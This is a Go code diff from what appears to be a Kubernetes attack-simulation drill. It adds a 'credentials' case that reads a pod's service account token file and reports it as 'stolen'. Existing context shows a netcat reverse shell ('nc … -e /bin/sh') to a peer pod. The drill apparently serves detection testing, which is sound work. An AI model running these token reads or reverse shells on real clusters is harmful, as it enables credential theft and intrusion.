@@ -45,6 +45,7 @@ type clusterStage struct {
 	config    *rest.Config
 	suffix    string
 	image     string
+	token     bool // the pods get their service account's token
 	madeSpace bool // the namespace is the drill's own
 
 	victim  *corev1.Pod
@@ -72,7 +73,7 @@ func newClusterStage(ctx context.Context, o drillOptions, kind string) (_ stage,
 		return nil, err
 	}
 	klog.SetLogger(logr.Discard()) // client-go tells of streams that the drill itself ends
-	s := &clusterStage{client: client, config: cfg, suffix: randomHex(3), image: o.image, failed: make(chan error, 1)}
+	s := &clusterStage{client: client, config: cfg, suffix: randomHex(3), image: o.image, token: kind == "credentials", failed: make(chan error, 1)}
 	streams, stop := context.WithCancel(context.WithoutCancel(ctx))
 	s.stop = stop
 	defer func() {
@@ -172,6 +173,8 @@ func (s *clusterStage) attack(ctx context.Context, kind string) error {
 		defer func() { _ = typist.Close() }()
 		go func() { _, _ = io.WriteString(typist, send("typed", beatPort)+"\n") }()
 		streams.Stdin, streams.Stderr, streams.Tty = typed, nil, true
+	case "credentials":
+		exec.Command = []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; " + send("stolen", beatPort)}
 	case "reverse-shell":
 		exec.Command = []string{"nc", s.peer, shellPort, "-e", "/bin/sh"}
 	}
